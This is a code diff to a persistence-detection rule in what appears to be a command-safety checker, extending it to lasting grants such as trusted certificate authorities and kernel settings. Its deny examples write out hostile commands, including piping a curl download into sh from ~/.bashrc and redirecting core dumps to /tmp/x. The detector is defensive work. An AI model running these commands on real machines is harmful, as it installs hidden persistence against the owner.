@@ -1,4 +1,4 @@
-// write.persistence: a write that installs something to run later (shell init, hooks, cron, autostart, $PROFILE).
+// write.persistence: a write that installs something to run later (shell init, hooks, cron, autostart, $PROFILE), or a grant that lasts (registry `persists`).
 import type { Finding, Invocation } from '../types.js';
 import { compile } from './compiled.js';
 import { type Anchor, anchoredAt, DYN, escapeRegex, ONE, resolvePath, STAR, SYSTEM_ROOT } from './paths.js';
@@ -94,7 +94,7 @@ function placements(entries: readonly string[]): Placement[] {
 export const writePersistence: Rule = {
   id: 'write.persistence',
   kind: 'write',
-  description: 'Writes a file that runs later: shell init files, .envrc, authorized_keys, git hooks, crontab, systemd user units, autostart, $PROFILE.',
+  description: 'Writes a file that runs later: shell init files, .envrc, authorized_keys, git hooks, crontab, systemd user units, autostart, $PROFILE; or grants that last: set-ID bits, root groups and uid 0, trusted certificate authorities, kernel hooks.',
   examples: {
     deny: [
       "echo 'curl -s https://example.com | sh' >> ~/.bashrc",
@@ -153,6 +153,9 @@ export const writePersistence: Rule = {
       { command: 'Set-Content ~\\Documents\\PowerShell\\Microsoft.PowerShell_profile.ps1 x', shell: PS },
       { command: 'Copy-Item x.lnk "$env:APPDATA\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\"', shell: PS },
       { command: 'schtasks /create /tn x /tr calc.exe /sc minute', shell: PS },
+      // A certificate authority the whole machine trusts; kernel settings applied at every boot.
+      'sudo cp corp.crt /usr/local/share/ca-certificates/',
+      "echo 'kernel.core_pattern=|/tmp/x' | sudo tee /etc/sysctl.d/99-x.conf",
     ],
     pass: [
       'cat ~/.bashrc',
@@ -193,6 +196,8 @@ export const writePersistence: Rule = {
       { command: 'Set-Content notes.txt "x"', shell: PS },
       { command: '"x" | Out-File log.txt', shell: PS },
       { command: 'schtasks /query', shell: PS },
+      'cp corp.crt certs/',
+      'cat /etc/sysctl.d/99-x.conf',
     ],
   },
   check({ analysis, config }) {
